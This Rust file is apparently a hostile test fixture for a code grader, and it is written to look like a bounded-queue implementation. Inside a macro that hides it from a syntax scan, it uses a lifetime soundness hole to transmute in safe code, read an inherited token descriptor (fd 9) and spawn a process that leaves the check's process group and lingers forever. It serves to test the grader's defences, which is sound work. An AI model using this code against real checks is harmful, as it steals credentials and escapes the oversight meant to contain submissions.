//! Hostile: the lifetime-expansion hole of safe_transmute.rs, written inside a
//! `macro_rules!` body (which the syn scan reads only as tokens). With its `transmute`,
//! `take` reads descriptor 9 (a token file the grader may have inherited from whoever
//! started it), and starts a process of its own that leaves the check's process group and
//! sleeps for ever (a thread in it is named `hostile-leak`): `pre_exec`, an `unsafe fn`,
//! made callable from safe code by transmuting its pointer. It panics with what it got.
//!
//! Expected: refused before compiling; with the scan off a panic whose message shows
//! that fd 9 was closed and the process could not be started, and nothing left running.

use conveyor::sync::{Condvar, Mutex, MutexGuard};
use std::collections::VecDeque;
use std::io::Read;
use std::os::unix::process::CommandExt;
use std::process::Command;

macro_rules! hole {
    () => {
        static UNIT: &&() = &&();

        fn translate<'a, 'b, T: ?Sized>(_: &'a &'b (), v: &'b mut T) -> &'a mut T {
            v
        }

        fn expand<'a, 'b, T: ?Sized>(x: &'a mut T) -> &'b mut T {
            let f: for<'x> fn(_, &'x mut T) -> &'b mut T = translate;
            f(UNIT, x)
        }

        enum Either<A, B> {
            A(Option<Box<A>>),
            B(Option<Box<B>>),
        }

        #[inline(never)]
        fn transmute<A, B>(value: A) -> B {
            let mut either: Either<A, B> = Either::B(None);
            let dummy = std::hint::black_box(&mut either);
            let Either::B(slot) = dummy else { unreachable!() };
            let slot = expand(slot);
            *dummy = Either::A(Some(Box::new(value)));
            std::hint::black_box(dummy);
            *slot.take().unwrap()
        }
    };
}

hole!();

type Hook = fn() -> std::io::Result<()>;

/// In the started process: a named thread and the process itself sleep for ever.
fn linger() -> std::io::Result<()> {
    let _ = std::thread::Builder::new().name("hostile-leak".into()).spawn(|| {
        loop {
            std::thread::sleep(std::time::Duration::from_secs(1));
        }
    });
    loop {
        std::thread::sleep(std::time::Duration::from_secs(1));
    }
}

/// What descriptor 9 holds, read through a `File` made from the number.
fn inherited() -> String {
    let mut file: std::fs::File = transmute::<i32, std::fs::File>(9);
    let mut text = String::new();
    let read = file.read_to_string(&mut text).map(|_| text);
    std::mem::forget(file);
    format!("{read:?}")
}

/// Starts a process outside the check's group, on a thread of its own (the start waits
/// for an exec that never comes). What starting it returned, or "started" when it hangs.
fn escape() -> String {
    let unsafe_hook: unsafe fn(&mut Command, Hook) -> &mut Command = <Command as CommandExt>::pre_exec::<Hook>;
    let hook: fn(&mut Command, Hook) -> &mut Command = transmute(unsafe_hook);
    let (sender, receiver) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut command = Command::new("/");
        command.process_group(0);
        hook(&mut command, linger);
        let _ = sender.send(format!("{:?}", command.spawn().map(|c| c.id())));
    });
    receiver
        .recv_timeout(std::time::Duration::from_millis(500))
        .unwrap_or_else(|_| "started".into())
}

static SEEN: std::sync::OnceLock<String> = std::sync::OnceLock::new();

pub struct BoundedQueue<T> {
    items: Mutex<VecDeque<T>>,
    not_full: Condvar,
    not_empty: Condvar,
    capacity: usize,
}

impl<T> BoundedQueue<T> {
    pub fn new(capacity: usize) -> Self {
        assert!(capacity > 0, "a queue needs room for at least one item");
        BoundedQueue {
            items: Mutex::new(VecDeque::with_capacity(capacity)),
            not_full: Condvar::new(),
            not_empty: Condvar::new(),
            capacity,
        }
    }

    fn items(&self) -> MutexGuard<'_, VecDeque<T>> {
        self.items.lock().unwrap()
    }

    pub fn put(&self, item: T) {
        let mut items = self.items();
        while items.len() >= self.capacity {
            items = self.not_full.wait(items).unwrap();
        }
        items.push_back(item);
        self.not_empty.notify_one();
    }

    pub fn try_put(&self, item: T) -> Result<(), T> {
        let mut items = self.items();
        if items.len() >= self.capacity {
            return Err(item);
        }
        items.push_back(item);
        self.not_empty.notify_one();
        Ok(())
    }

    pub fn take(&self) -> T {
        let seen = SEEN.get_or_init(|| format!("fd 9: {}; process: {}", inherited(), escape()));
        panic!("what the hole reached: {seen}");
    }

    pub fn len(&self) -> usize {
        self.items().len()
    }

    pub fn is_empty(&self) -> bool {
        self.items().is_empty()
    }

    pub fn capacity(&self) -> usize {
        self.capacity
    }
}
